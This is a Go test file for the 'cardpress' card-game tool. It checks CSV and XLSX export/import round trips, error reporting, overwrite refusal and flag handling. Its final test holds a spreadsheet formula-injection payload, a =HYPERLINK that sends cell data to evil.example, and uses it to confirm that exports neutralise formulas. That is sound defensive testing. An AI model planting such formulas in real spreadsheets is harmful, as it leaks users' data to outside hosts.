package cmd

import (
	"bytes"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/cardpress/cardpress/gamedata"
	"github.com/cardpress/cardpress/importer"
	"github.com/cardpress/cardpress/internal/testutil"
	"github.com/cardpress/cardpress/pipeline"
	"github.com/cardpress/cardpress/spreadsheet"
)

// deckTargets is, for each deck of the game in dir, the one card file
// holding its cards, which import rewrites.
func deckTargets(t *testing.T, dir string) (decks, files []string) {
	t.Helper()
	g, _ := gamedata.Load(dir, pipeline.EngineSchemas)
	if g == nil {
		t.Fatalf("%s does not load", dir)
	}
	for _, d := range g.Manifest.Decks {
		fs := importer.DeckFiles(g, d.ID)
		if len(fs) != 1 {
			t.Fatalf("%s: deck %s is in %d files, want 1", dir, d.ID, len(fs))
		}
		decks, files = append(decks, d.ID), append(files, fs[0])
	}
	return decks, files
}

// sheetsOf reads every sheet of an XLSX file.
func sheetsOf(t *testing.T, path string) map[string]*spreadsheet.Table {
	t.Helper()
	wb, err := spreadsheet.OpenXLSX(readFile(t, path))
	if err != nil {
		t.Fatal(err)
	}
	defer wb.Close()
	out := map[string]*spreadsheet.Table{}
	for _, name := range wb.Sheets() {
		if out[name], err = wb.Sheet(name); err != nil {
			t.Fatal(err)
		}
	}
	return out
}

// roundTrip exports every deck of the games under ws/root as format,
// imports each deck's sheet back into the card file that holds the deck,
// exports again and returns both exports' folders.
func roundTrip(t *testing.T, ws, root, format string, games ...string) (first, second string) {
	t.Helper()
	if code, out, errOut := run(t, ws, "export", format, root, "--out", "first"); code != 0 {
		t.Fatalf("export %s: exit %d\n%s%s", format, code, out, errOut)
	}
	for _, game := range games {
		dir := filepath.Join(root, game)
		decks, files := deckTargets(t, filepath.Join(ws, dir))
		for i, deck := range decks {
			file := filepath.Join("first", game, game+"-"+deck+".csv")
			if format == "xlsx" {
				file = filepath.Join("first", game, game+"-cards.xlsx")
			}
			code, out, errOut := run(t, ws, "import", file, "--game", dir, "--deck", deck, "--into", files[i])
			if code != 0 || !strings.Contains(out, "wrote "+filepath.Join(dir, files[i])) {
				t.Fatalf("import %s deck %s: exit %d\n%s%s", game, deck, code, out, errOut)
			}
		}
	}
	if code, out, errOut := run(t, ws, "export", format, root, "--out", "second"); code != 0 {
		t.Fatalf("export %s again: exit %d\n%s%s", format, code, out, errOut)
	}
	return filepath.Join(ws, "first"), filepath.Join(ws, "second")
}

// sameExports compares two export folders: CSV files byte for byte, XLSX
// files byte for byte and sheet by sheet, cell by cell.
func sameExports(t *testing.T, first, second string) {
	t.Helper()
	n := 0
	filepath.WalkDir(first, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		n++
		rel, _ := filepath.Rel(first, path)
		other := filepath.Join(second, rel)
		if strings.HasSuffix(path, ".xlsx") {
			a, b := sheetsOf(t, path), sheetsOf(t, other)
			for name, ta := range a {
				ca, _ := spreadsheet.WriteCSV(ta)
				cb, _ := spreadsheet.WriteCSV(b[name])
				if b[name] == nil || !bytes.Equal(ca, cb) {
					t.Errorf("%s, sheet %s: the cells differ after import and export:\n%s\n---\n%s", rel, name, ca, cb)
				}
			}
		}
		if !bytes.Equal(readFile(t, path), readFile(t, other)) {
			t.Errorf("%s differs after import and export", rel)
		}
		return nil
	})
	if n == 0 {
		t.Fatal("nothing was exported")
	}
}

// TestSheetRoundTripShippedDecks is the identity on every shipped deck:
// export → import → export gives the same CSV files and XLSX sheets, and
// import writes back every card file exactly as shipped (comments,
// quoting and flow style kept for unchanged cards), so no field is lost.
func TestSheetRoundTripShippedDecks(t *testing.T) {
	games := []string{"heat", "masterminds", "mice", "hmm"}
	for _, format := range []string{"csv", "xlsx"} {
		t.Run(format, func(t *testing.T) {
			ws := t.TempDir()
			for _, g := range games {
				testutil.CopyTree(t, filepath.Join(repoRoot, "cards", g), filepath.Join(ws, "cards", g))
			}
			first, second := roundTrip(t, ws, "cards", format, games...)
			sameExports(t, first, second)
			for _, g := range games {
				entries, _ := os.ReadDir(filepath.Join(repoRoot, "cards", g))
				for _, e := range entries {
					name := filepath.Join("cards", g, e.Name())
					if !e.IsDir() && !bytes.Equal(readFile(t, filepath.Join(repoRoot, name)), readFile(t, filepath.Join(ws, name))) {
						t.Errorf("%s changed by importing its own export", name)
					}
				}
			}
			if code, out, _ := run(t, ws, "validate", "cards"); code != 0 || !strings.Contains(out, "4 games, 406 cards, no problems") {
				t.Errorf("validate after the round trip: exit %d\n%s", code, out)
			}
		})
	}
}

// TestSheetRoundTripOwnGames: the same for games without an engine,
// whose columns follow the declared field types (integers, enums,
// booleans, lists): the sprint test game and the game `cardpress new`
// writes.
func TestSheetRoundTripOwnGames(t *testing.T) {
	for _, format := range []string{"csv", "xlsx"} {
		t.Run(format, func(t *testing.T) {
			ws := sprint(t)
			if code, out, errOut := run(t, ws, "new", "market"); code != 0 {
				t.Fatalf("new: exit %d\n%s%s", code, out, errOut)
			}
			before := map[string][]byte{}
			for _, f := range []string{"sprint/cards.yaml", "market/goods.yaml", "market/orders.yaml"} {
				before[f] = readFile(t, filepath.Join(ws, f))
			}
			first, second := roundTrip(t, ws, ".", format, "sprint", "market")
			sameExports(t, first, second)
			for f, data := range before {
				if !bytes.Equal(data, readFile(t, filepath.Join(ws, f))) {
					t.Errorf("%s changed by importing its own export:\n%s", f, readFile(t, filepath.Join(ws, f)))
				}
			}
		})
	}
	ws := sprint(t)
	run(t, ws, "new", "market")
	run(t, ws, "export", "csv", "market", "--out", "out")
	csv := string(readFile(t, filepath.Join(ws, "out/market/market-goods.csv")))
	for _, want := range []string{"id,name,deck,count,cost,points,stall,rules,perishable,flavor\n", ",true,\"Fragrant tonight, stale tomorrow.\"\n"} {
		if !strings.Contains(csv, want) {
			t.Errorf("goods.csv lacks %q:\n%s", want, csv)
		}
	}
	if orders := string(readFile(t, filepath.Join(ws, "out/market/market-orders.csv"))); !strings.Contains(orders, `,"spice, silk, tea",`) {
		t.Errorf("orders.csv writes no list as values separated by commas:\n%s", orders)
	}
}

// TestImportEditedSheet: a sheet changed by hand (a name, a number, a row
// added) gives the card file those changes and exports back as edited.
func TestImportEditedSheet(t *testing.T) {
	ws := sprint(t)
	run(t, ws, "export", "csv", "sprint", "--out", "out")
	path := filepath.Join(ws, "out/sprint/sprint-main.csv")
	edited := strings.Replace(string(readFile(t, path)), "hare,Hare,4,1,", "hare,Mad Hare,4,1,", 1)
	edited += "owl,Owl,1,9,slow,\"Look, then draw.\"\n"
	if err := os.WriteFile(path, []byte(edited), 0o644); err != nil {
		t.Fatal(err)
	}
	// 13 copies against the component's 12: a game-level problem, named
	// in game.yaml, that keeps the file from being written.
	code, out, _ := run(t, ws, "import", path, "--game", "sprint", "--deck", "main", "--into", "cards.yaml")
	if code != 1 || !strings.Contains(out, `game.yaml:12:59: error COUNT_MISMATCH: component "runners" counts 12 but deck "main" has 13 card copies`) || !strings.Contains(out, "nothing was written") {
		t.Fatalf("import with a wrong count: exit %d\n%s", code, out)
	}
	edited = strings.Replace(edited, "hare,Mad Hare,4,", "hare,Mad Hare,3,", 1) + ",,,,,\n"
	os.WriteFile(path, []byte(edited), 0o644)
	edited = strings.TrimSuffix(edited, ",,,,,\n") // the blank row is no card
	if code, out, errOut := run(t, ws, "import", path, "--game", "sprint", "--deck", "main", "--into", "cards.yaml"); code != 0 {
		t.Fatalf("import: exit %d\n%s%s", code, out, errOut)
	}
	yaml := string(readFile(t, filepath.Join(ws, "sprint/cards.yaml")))
	for _, want := range []string{"  - id: hare\n    name: Mad Hare\n    count: 3\n", "  - id: owl\n    name: Owl\n    count: 1\n    points: 9\n    speed: slow\n    rules: Look, then draw.\n", "  - id: tortoise\n    name: Tortoise\n"} {
		if !strings.Contains(yaml, want) {
			t.Errorf("cards.yaml lacks %q:\n%s", want, yaml)
		}
	}
	run(t, ws, "export", "csv", "sprint", "--out", "again")
	if got := string(readFile(t, filepath.Join(ws, "again/sprint/sprint-main.csv"))); got != edited {
		t.Errorf("exported again:\n%s\nwant\n%s", got, edited)
	}
}

// TestImportProblemsNameSheetRowColumn: every problem is told at its sheet,
// row and column, the sheet's own (a cell that is no number) and the
// game's (a value the deck does not allow, a missing field, a duplicate
// id), and nothing is written.
func TestImportProblemsNameSheetRowColumn(t *testing.T) {
	ws := sprint(t)
	cell := func(s string) spreadsheet.Cell { return spreadsheet.Cell{Text: s} }
	tab := &spreadsheet.Table{Name: "main", Header: []string{"id", "name", "points", "speed", "count"}, Rows: []spreadsheet.Row{
		{Num: 2, Cells: []spreadsheet.Cell{cell("hare"), cell("Hare"), cell("1"), cell("fast"), cell("4")}},
		{Num: 3, Cells: []spreadsheet.Cell{cell("tortoise"), cell("Tortoise"), cell("3"), cell("quick"), cell("4")}},
		{Num: 4, Cells: []spreadsheet.Cell{cell("fox"), {}, cell("2"), cell("steady"), cell("2")}},
		{Num: 5, Cells: []spreadsheet.Cell{cell("hare"), cell("Owl"), cell("two"), cell("slow"), cell("2")}},
	}}
	data, err := spreadsheet.WriteXLSX([]*spreadsheet.Table{tab})
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(ws, "cards.xlsx"), data, 0o644)
	before := readFile(t, filepath.Join(ws, "sprint/cards.yaml"))
	code, out, _ := run(t, ws, "import", "cards.xlsx", "--game", "sprint", "--deck", "main", "--into", "cards.yaml")
	want := []string{
		`cards.xlsx: sheet "main", row 3, column D (speed): "quick" is not allowed; use one of: "slow", "steady", "fast" (SCHEMA_ENUM)`,
		`cards.xlsx: sheet "main", row 4: missing required field "name" (SCHEMA_REQUIRED)`,
		`cards.xlsx: sheet "main", row 5, column A (id): duplicate card id "hare" (first at row 2) (DUPLICATE_ID)`,
		`cards.xlsx: sheet "main", row 5, column C (points): expected a whole number, found "two"`,
		`import: 4 errors; nothing was written`,
	}
	if code != 1 || strings.TrimSpace(out) != strings.Join(want, "\n") {
		t.Errorf("exit %d, got\n%s\nwant\n%s", code, out, strings.Join(want, "\n"))
	}
	if !bytes.Equal(before, readFile(t, filepath.Join(ws, "sprint/cards.yaml"))) {
		t.Error("cards.yaml was written despite the errors")
	}

	// A CSV file has no sheet name; a broken CSV names its row.
	os.WriteFile(filepath.Join(ws, "bad.csv"), []byte("id,name,points\nhare,Hare,x\n"), 0o644)
	code, out, _ = run(t, ws, "import", "bad.csv", "--game", "sprint", "--deck", "main", "--into", "cards.yaml")
	if code != 1 || !strings.Contains(out, `bad.csv: row 2, column C (points): expected a whole number, found "x"`) {
		t.Errorf("CSV: exit %d\n%s", code, out)
	}
	os.WriteFile(filepath.Join(ws, "broken.csv"), []byte("id,name\nhare,\"Hare\n"), 0o644)
	code, out, _ = run(t, ws, "import", "broken.csv", "--game", "sprint", "--deck", "main", "--into", "cards.yaml")
	if code != 1 || !strings.Contains(out, `broken.csv: row 2 (line 2): extraneous or missing " in quoted-field`) {
		t.Errorf("broken CSV: exit %d\n%s", code, out)
	}
}

// TestImportRefusesToOverwrite: import writes a new file, or rewrites a
// card file the game lists when --into names it; any other file that
// exists is left alone, with exit 1.
func TestImportRefusesToOverwrite(t *testing.T) {
	ws := sprint(t)
	run(t, ws, "export", "csv", "sprint", "--out", "out")
	csv := filepath.Join("out", "sprint", "sprint-main.csv")
	os.WriteFile(filepath.Join(ws, "sprint", "main.yaml"), []byte("hand-written\n"), 0o644)
	os.WriteFile(filepath.Join(ws, "sprint", "notes.yaml"), []byte("mine\n"), 0o644)
	for _, tc := range []struct {
		into, file, want string
	}{
		{"", "main.yaml", "main.yaml exists; import writes a new file unless --into names a card file of the game to rewrite"},
		{"layout.yaml", "layout.yaml", "layout.yaml exists and is not one of the card files game.yaml lists (cards.yaml)"},
		{"notes.yaml", "notes.yaml", "notes.yaml exists and is not one of the card files game.yaml lists"},
		{"sprint/notes.yaml", "notes.yaml", "notes.yaml exists and is not one of the card files game.yaml lists"},
		{"game.yaml", "game.yaml", "game.yaml exists and is not one of the card files"},
	} {
		before := readFile(t, filepath.Join(ws, "sprint", tc.file))
		args := []string{"import", csv, "--game", "sprint", "--deck", "main"}
		if tc.into != "" {
			args = append(args, "--into", tc.into)
		}
		code, out, errOut := run(t, ws, args...)
		if code != 1 || !strings.Contains(errOut, tc.want) || strings.Contains(out, "wrote") {
			t.Errorf("--into %q: exit %d\n%s%s", tc.into, code, out, errOut)
		}
		if !bytes.Equal(before, readFile(t, filepath.Join(ws, "sprint", tc.file))) {
			t.Errorf("--into %q: %s was changed", tc.into, tc.file)
		}
	}
	// A listed card file is rewritten, named either way.
	for _, into := range []string{"cards.yaml", filepath.Join("sprint", "cards.yaml")} {
		if code, out, errOut := run(t, ws, "import", csv, "--game", "sprint", "--deck", "main", "--into", into); code != 0 || !strings.Contains(out, "wrote "+filepath.Join("sprint", "cards.yaml")+": 3 cards of deck main") {
			t.Errorf("--into %s: exit %d\n%s%s", into, code, out, errOut)
		}
	}
}

// TestImportNewFile: a deck read into a new file is validated as the game
// would be with the file listed, written, and named as still to be listed.
func TestImportNewFile(t *testing.T) {
	ws := t.TempDir()
	run(t, ws, "new", "market")
	run(t, ws, "export", "csv", "market", "--deck", "orders", "--out", "out")
	// The orders move to a file of their own: game.yaml lists it instead
	// of orders.yaml, which is removed.
	manifest := filepath.Join(ws, "market", "game.yaml")
	data := readFile(t, manifest)
	os.Remove(filepath.Join(ws, "market", "orders.yaml"))
	os.WriteFile(manifest, bytes.Replace(data, []byte("[goods.yaml, orders.yaml]"), []byte("[goods.yaml]"), 1), 0o644)
	csv := filepath.Join("out", "market", "market-orders.csv")
	code, out, errOut := run(t, ws, "import", csv, "--game", "market", "--deck", "orders", "--into", "decks/orders.yaml")
	if code != 2 || !strings.Contains(errOut, "does not exist in the game folder") {
		t.Errorf("a new file in a missing folder: exit %d\n%s%s", code, out, errOut)
	}
	code, out, errOut = run(t, ws, "import", csv, "--game", "market", "--deck", "orders")
	if code != 0 || !strings.Contains(out, "wrote "+filepath.Join("market", "orders.yaml")+": 3 cards of deck orders") ||
		!strings.Contains(out, "orders.yaml is not one of the game's card files yet: add orders.yaml to files.cards in "+manifest[len(ws)+1:]) {
		t.Fatalf("import into a new file: exit %d\n%s%s", code, out, errOut)
	}
	written := string(readFile(t, filepath.Join(ws, "market", "orders.yaml")))
	if !strings.HasPrefix(written, "# yaml-language-server: $schema=schema/cards.schema.json\n# Deck orders, imported from market-orders.csv by cardpress import.\ncards:\n  - id: ") {
		t.Errorf("the new file's head:\n%s", written)
	}
	os.WriteFile(manifest, data, 0o644)
	if code, out, _ := run(t, ws, "validate", "market"); code != 0 || !strings.Contains(out, "no problems") {
		t.Errorf("validate with the new file listed: exit %d\n%s", code, out)
	}
}

// TestImportUsage: flags and arguments that make no import are exit 2.
func TestImportUsage(t *testing.T) {
	ws := sprint(t)
	run(t, ws, "export", "csv", "sprint", "--out", "out")
	csv := filepath.Join("out", "sprint", "sprint-main.csv")
	os.WriteFile(filepath.Join(ws, "cards.ods"), []byte("x"), 0o644)
	data, _ := spreadsheet.WriteXLSX([]*spreadsheet.Table{{Name: "a", Header: []string{"id"}}, {Name: "b", Header: []string{"id"}}})
	os.WriteFile(filepath.Join(ws, "two.xlsx"), data, 0o644)
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"import"}, "import takes one argument"},
		{[]string{"import", csv, csv, "--game", "sprint", "--deck", "main"}, "import takes one argument"},
		{[]string{"import", csv, "--deck", "main"}, "--game is required"},
		{[]string{"import", csv, "--game", "sprint", "--into", "cards.yaml"}, "--into needs --deck: it names the file of one deck's cards"},
		{[]string{"import", csv, "--game", "sprint", "--deck", "side"}, `game sprint has no deck "side" (its decks: main)`},
		{[]string{"import", csv, "--game", "out", "--deck", "main"}, "not a game folder"},
		{[]string{"import", csv, "--game", "nowhere", "--deck", "main"}, "--game nowhere: not a folder"},
		{[]string{"import", "cards.ods", "--game", "sprint", "--deck", "main"}, "cannot tell the format"},
		{[]string{"import", "missing.csv", "--game", "sprint", "--deck", "main"}, "missing.csv: no such file"},
		{[]string{"import", csv, "--game", "sprint", "--deck", "main", "--sheet", "x"}, "--sheet is for an .xlsx file"},
		{[]string{"import", "two.xlsx", "--game", "sprint", "--deck", "main"}, `two.xlsx has no sheet named main and several others: pick one with --sheet ("a", "b")`},
		{[]string{"import", "two.xlsx", "--game", "sprint", "--deck", "main", "--sheet", "c"}, `two.xlsx has no sheet "c"`},
		{[]string{"import", csv, "--game", "sprint", "--deck", "main", "--into", "../x.yaml"}, "--into ../x.yaml: name a .yaml file inside the game folder"},
		{[]string{"import", csv, "--game", "sprint", "--deck", "main", "--into", "cards.txt"}, "name a .yaml file"},
		{[]string{"import", csv, "--game", "sprint", "--deck", "main", "--bogus"}, "unknown flag: --bogus"},
	} {
		code, out, errOut := run(t, ws, tc.args...)
		if code != 2 || !strings.Contains(errOut, tc.want) || strings.Count(errOut, "\n") != 1 {
			t.Errorf("%v: exit %d, want 2 and %q\n%s%s", tc.args, code, tc.want, out, errOut)
		}
	}
}

// TestExportFormat: `export --format F` is `export F`; a missing or unknown
// format, a deck the game lacks or a game with errors exports nothing.
func TestExportFormat(t *testing.T) {
	ws := sprint(t)
	if code, out, errOut := run(t, ws, "export", "csv", "sprint", "--out", "a"); code != 0 || out != "wrote "+filepath.Join("a", "sprint", "sprint-main.csv")+"\n" {
		t.Fatalf("export csv: exit %d\n%s%s", code, out, errOut)
	}
	for _, args := range [][]string{
		{"export", "--format", "csv", "sprint", "--out", "b"},
		{"export", "--out", "b", "--format=csv", "sprint"},
		{"export", "--deck", "main", "--format", "csv", "--out", "b", "sprint"},
	} {
		os.RemoveAll(filepath.Join(ws, "b"))
		if code, out, errOut := run(t, ws, args...); code != 0 || !bytes.Equal(readFile(t, filepath.Join(ws, "a/sprint/sprint-main.csv")), readFile(t, filepath.Join(ws, "b/sprint/sprint-main.csv"))) {
			t.Errorf("%v: exit %d\n%s%s", args, code, out, errOut)
		}
	}
	if code, out, _ := run(t, ws, "export", "xlsx", "sprint", "--deck", "main", "--out", "c"); code != 0 || !strings.Contains(out, filepath.Join("c", "sprint", "sprint-main.xlsx")) {
		t.Errorf("export xlsx --deck: exit %d\n%s", code, out)
	}
	if code, out, _ := run(t, ws, "export", "--format", "xlsx", "sprint", "--out", "c"); code != 0 || !strings.Contains(out, filepath.Join("c", "sprint", "sprint-cards.xlsx")) {
		t.Errorf("export xlsx: exit %d\n%s", code, out)
	}
	if code, out, _ := run(t, ws, "export", "--help"); code != 0 || !strings.Contains(out, "--format string") || !strings.Contains(out, "xlsx") {
		t.Errorf("export --help: exit %d\n%s", code, out)
	}
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"export"}, "export needs a format"},
		{[]string{"export", "sprint"}, "export needs a format"},
		{[]string{"export", "--format", "pdf", "sprint"}, `unknown --format "pdf" (want csv, png, tts, xlsx)`},
		{[]string{"export", "--format"}, "--format needs a format"},
		{[]string{"export", "csv", "sprint", "--deck", "side"}, `--deck: game sprint has no deck "side"`},
		{[]string{"export", "--format", "csv", "sprint", "--deck", "side"}, `--deck: game sprint has no deck "side"`},
		{[]string{"export", "csv", "sprint", "--out", ""}, "--out is empty"},
		{[]string{"export", "csv", "nowhere"}, "nowhere"},
	} {
		code, out, errOut := run(t, ws, tc.args...)
		if code != 2 || !strings.Contains(errOut, tc.want) {
			t.Errorf("%v: exit %d, want 2 and %q\n%s%s", tc.args, code, tc.want, out, errOut)
		}
	}
	os.WriteFile(filepath.Join(ws, "sprint", "cards.yaml"), []byte("cards:\n  - id: Hare\n"), 0o644)
	if code, out, _ := run(t, ws, "export", "csv", "sprint", "--out", "d"); code != 1 || !strings.Contains(out, "cards.yaml:2:") {
		t.Errorf("a game with errors: exit %d\n%s", code, out)
	}
	if _, err := os.Stat(filepath.Join(ws, "d")); err == nil {
		t.Error("a game with errors was exported")
	}
}

// TestExportCSVFormulaInjection: card text that a spreadsheet would run
// as a formula (a pull request's =HYPERLINK that leaks the sheet) is
// exported as text, with an apostrophe in front, and imported back into
// the card file byte for byte; XLSX keeps it a string.
func TestExportCSVFormulaInjection(t *testing.T) {
	ws := sprint(t)
	path := filepath.Join(ws, "sprint", "cards.yaml")
	cards := strings.Replace(string(readFile(t, path)), "rules: Draw a card.", `rules: '=HYPERLINK("http://evil.example/?leak="&B2,"Draw a card.")'`, 1)
	cards = strings.Replace(cards, "rules: Take a banked card from the player on your left.", "rules: '-2 points, @ the end'", 1)
	os.WriteFile(path, []byte(cards), 0o644)
	if code, out, errOut := run(t, ws, "export", "csv", "sprint", "--out", "out"); code != 0 {
		t.Fatalf("export: exit %d\n%s%s", code, out, errOut)
	}
	csv := string(readFile(t, filepath.Join(ws, "out/sprint/sprint-main.csv")))
	for _, want := range []string{`,"'=HYPERLINK(""http://evil.example/?leak=""&B2,""Draw a card."")"`, `,"'-2 points, @ the end"` + "\n"} {
		if !strings.Contains(csv, want) {
			t.Errorf("the CSV lacks %q:\n%s", want, csv)
		}
	}
	for _, line := range strings.Split(csv, "\n") {
		for _, cell := range strings.Split(line, ",") {
			if strings.HasPrefix(strings.TrimPrefix(cell, `"`), "=") {
				t.Errorf("a cell starts a formula: %q", line)
			}
		}
	}
	code, out, errOut := run(t, ws, "import", "out/sprint/sprint-main.csv", "--game", "sprint", "--deck", "main", "--into", "cards.yaml")
	if code != 0 {
		t.Fatalf("import: exit %d\n%s%s", code, out, errOut)
	}
	if got := string(readFile(t, path)); got != cards {
		t.Errorf("the card file changed on the round trip:\n%s", got)
	}
}
